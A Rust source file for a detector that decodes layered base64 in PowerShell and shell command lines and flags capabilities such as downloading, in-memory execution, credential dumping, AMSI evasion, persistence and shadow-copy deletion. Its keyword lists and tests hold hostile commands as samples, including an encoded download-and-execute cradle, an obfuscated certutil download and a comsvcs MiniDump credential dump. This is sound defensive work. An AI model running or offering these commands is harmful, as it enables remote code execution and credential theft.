//! What a command line or script says: layers decoded, capabilities named. Judged by combination, never by one keyword.

use base64::Engine;
use base64::engine::general_purpose::STANDARD_NO_PAD;
use std::collections::BTreeSet;

/// Most layers that are decoded.
const MOST_LAYERS: usize = 6;

/// Shortest run of base64 that is worth decoding, in characters.
const SHORTEST_ENCODED: usize = 24;

/// Kinds of things a script can do, as far as its text shows.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Capability {
    /// Fetches something from a network.
    Download,
    /// Runs text or bytes without a file.
    ExecuteInMemory,
    /// Unwraps something hidden.
    Decode,
    /// Calls the operating system's memory and thread functions.
    Native,
    /// Reaches for credentials.
    Credential,
    /// Works against what watches it.
    Evasion,
    /// Makes sure to be started again.
    Persistence,
    /// Makes recovery impossible.
    RecoveryInhibition,
}

impl Capability {
    /// The capability in a sentence.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::Download => "downloads",
            Self::ExecuteInMemory => "runs code in memory",
            Self::Decode => "unwraps hidden content",
            Self::Native => "calls memory and thread functions",
            Self::Credential => "reaches for credentials",
            Self::Evasion => "works against its observers",
            Self::Persistence => "makes itself persistent",
            Self::RecoveryInhibition => "inhibits recovery",
        }
    }
}

/// Words of each capability. An entry with several words counts when all of them occur.
const WORDS: [(Capability, &[&[&str]]); 8] = [
    (
        Capability::Download,
        &[
            &["downloadstring"],
            &["downloadfile"],
            &["downloaddata"],
            &["net.webclient"],
            &["invoke-webrequest", "http"],
            &["invoke-restmethod", "http"],
            &["start-bitstransfer"],
            &["bitsadmin", "/transfer"],
            &["certutil", "urlcache"],
            &["mshta", "http"],
            &["regsvr32", "http"],
            &["curl", "http"],
        ],
    ),
    (
        Capability::ExecuteInMemory,
        &[
            &["invoke-expression"],
            &["iex "],
            &["iex("],
            &["iex)"],
            &["|iex"],
            &["assembly]::load"],
            &["scriptblock]::create"],
            &["invokescript"],
            &[".invoke("],
            &["mshta", "vbscript:"],
            &["mshta", "javascript:"],
        ],
    ),
    (
        Capability::Decode,
        &[
            &["frombase64string"],
            &["gzipstream"],
            &["deflatestream"],
            &["-bxor"],
            &["certutil", "-decode"],
            &["[char]", "-join"],
        ],
    ),
    (
        Capability::Native,
        &[
            &["virtualalloc"],
            &["writeprocessmemory"],
            &["createremotethread"],
            &["createthread"],
            &["ntmapviewofsection"],
            &["queueuserapc"],
            &["getdelegateforfunctionpointer"],
        ],
    ),
    (
        Capability::Credential,
        &[
            &["comsvcs", "minidump"],
            &["sekurlsa"],
            &["lsadump"],
            &["minidumpwritedump"],
            &["lsass", ".dmp"],
            &["ntds.dit"],
            &["ntdsutil", "ifm"],
            &["reg", "save", "hklm\\sam"],
            &["reg", "save", "hklm\\security"],
            &["kerberoast"],
        ],
    ),
    (
        Capability::Evasion,
        &[
            &["amsiutils"],
            &["amsiinitfailed"],
            &["amsiscanbuffer"],
            &["etweventwrite"],
            &["set-mppreference", "disable"],
            &["add-mppreference", "exclusion"],
            &["wevtutil", " cl "],
            &["clear-eventlog"],
            &["enablescriptblocklogging", "getfield"],
        ],
    ),
    (
        Capability::Persistence,
        &[
            &["currentversion\\run"],
            &["schtasks", "/create"],
            &["new-scheduledtask"],
            &["sc", " create ", "binpath"],
            &["new-service"],
            &["__eventfilter"],
            &["commandlineeventconsumer"],
            &["activescripteventconsumer"],
        ],
    ),
    (
        Capability::RecoveryInhibition,
        &[
            &["vssadmin", "delete", "shadows"],
            &["vssadmin", "resize", "shadowstorage"],
            &["wmic", "shadowcopy", "delete"],
            &["win32_shadowcopy", "delete"],
            &["wbadmin", "delete"],
            &["bcdedit", "recoveryenabled", "no"],
            &["bcdedit", "bootstatuspolicy"],
        ],
    ),
];

/// What was read out of a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reading {
    /// The text and everything decoded from it, outermost first.
    pub layers: Vec<String>,
    /// What it can do.
    pub capabilities: BTreeSet<Capability>,
    /// How many of the operating system's memory functions it names.
    pub native_calls: usize,
    /// It hides its window, skips the profile and takes its commands encoded: at least three of these.
    pub launched_hidden: bool,
}

/// Reads a command line or script.
#[must_use]
pub fn read(text: &str) -> Reading {
    let mut layers = vec![text.to_owned()];
    while layers.len() <= MOST_LAYERS {
        let Some(inner) = layers.last().and_then(|last| decoded(last)) else { break };
        layers.push(inner);
    }
    let all = layers.iter().map(|layer| folded(layer)).collect::<Vec<_>>().join("\n");
    let has = |words: &[&str]| words.iter().all(|word| all.contains(word));
    let capabilities = WORDS.iter().filter(|(_, entries)| entries.iter().any(|words| has(words)));
    let native = &WORDS[3].1;
    Reading {
        capabilities: capabilities.map(|(capability, _)| *capability).collect(),
        native_calls: native.iter().filter(|words| has(words)).count(),
        launched_hidden: is_launched_hidden(&folded(text)),
        layers,
    }
}

/// Lower case, carets, back ticks and quotation marks of obfuscation removed, white space collapsed.
fn folded(text: &str) -> String {
    let plain: String = text.chars().filter(|c| !matches!(c, '`' | '^' | '"' | '\'')).collect();
    // PowerShell's string concatenation splits words: 'Down'+'load'.
    let plain = plain.to_lowercase().replace("+", "").replace('\0', "");
    plain.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn is_launched_hidden(folded: &str) -> bool {
    if !(folded.contains("powershell") || folded.contains("pwsh")) {
        return false;
    }
    let words: Vec<&str> = folded.split(' ').collect();
    let switch = |names: &[&str]| {
        words.iter().any(|word| word.strip_prefix(['-', '/']).is_some_and(|word| names.contains(&word)))
    };
    let hidden = words.windows(2).any(|pair| {
        let name = pair[0].trim_start_matches(['-', '/']);
        name.starts_with('w') && "windowstyle".starts_with(name) && matches!(pair[1], "hidden" | "1" | "hid")
    });
    let signs = [
        switch(&["nop", "noprofile", "noprof"]),
        switch(&["noni", "noninteractive", "nonint"]),
        hidden,
        switch(&["e", "ec", "en", "enc", "enco", "encodedcommand", "encoded"]),
        words.windows(2).any(|pair| pair[0].trim_start_matches(['-', '/']).starts_with("ex") && pair[1] == "bypass"),
        switch(&["sta"]),
    ];
    signs.iter().filter(|sign| **sign).count() >= 3
}

/// The longest run of base64 in the text, decoded as UTF-16 or UTF-8, if it says something readable.
fn decoded(text: &str) -> Option<String> {
    let of_base64 = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=');
    let run = text.split(|c| !of_base64(c)).filter(|run| run.len() >= SHORTEST_ENCODED).max_by_key(|run| run.len())?;
    let run = run.trim_end_matches('=');
    let whole = &run[..run.len() - usize::from(run.len() % 4 == 1)];
    let bytes = STANDARD_NO_PAD.decode(whole).ok()?;
    let wide: Vec<u16> = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
    let candidates = [String::from_utf16(&wide).ok(), String::from_utf8(bytes).ok()];
    candidates.into_iter().flatten().find(|text| is_readable(text))
}

fn is_readable(text: &str) -> bool {
    let total = text.chars().count();
    let plain = text.chars().filter(|c| c.is_ascii_graphic() || matches!(c, ' ' | '\n' | '\r' | '\t')).count();
    total >= 8 && plain * 10 >= total * 9
}

#[cfg(test)]
mod tests {
    use base64::engine::general_purpose::STANDARD;

    use super::*;

    fn encoded(text: &str) -> String {
        STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>())
    }

    #[test]
    fn an_encoded_command_is_judged_by_its_plain_text() {
        let inner = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')";
        let reading = read(&format!("powershell.exe -nop -w hidden -enc {}", encoded(inner)));
        assert_eq!(reading.layers.len(), 2);
        assert!(reading.launched_hidden);
        assert!(reading.capabilities.contains(&Capability::Download));
        assert!(reading.capabilities.contains(&Capability::ExecuteInMemory));

        let harmless =
            read(&format!("powershell.exe -enc {}", encoded("Get-Service | Where-Object Status -eq Running")));
        assert!(harmless.capabilities.is_empty() && !harmless.launched_hidden);
    }

    #[test]
    fn splitting_words_does_not_hide_them() {
        assert!(read("&('I'+'EX') ((New-Object Net.WebClient).('Down'+'loadString')('x'))").capabilities.len() >= 2);
        assert!(
            read("c^ert^util -url^cache -f http://203.0.113.9/a.exe a.exe")
                .capabilities
                .contains(&Capability::Download)
        );
    }

    #[test]
    fn words_need_their_company() {
        assert!(read("rundll32.exe comsvcs.dll, MiniDump 712 x full").capabilities.contains(&Capability::Credential));
        assert!(read("rundll32.exe comsvcs.dll,DllRegisterServer").capabilities.is_empty());
        assert!(read("certutil -hashfile a.iso SHA256").capabilities.is_empty());
        assert!(read("vssadmin list shadows").capabilities.is_empty());
    }

    #[test]
    fn anything_can_be_read() {
        for text in ["", "====================================", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "é\u{0}"] {
            let _ = read(text);
        }
    }
}
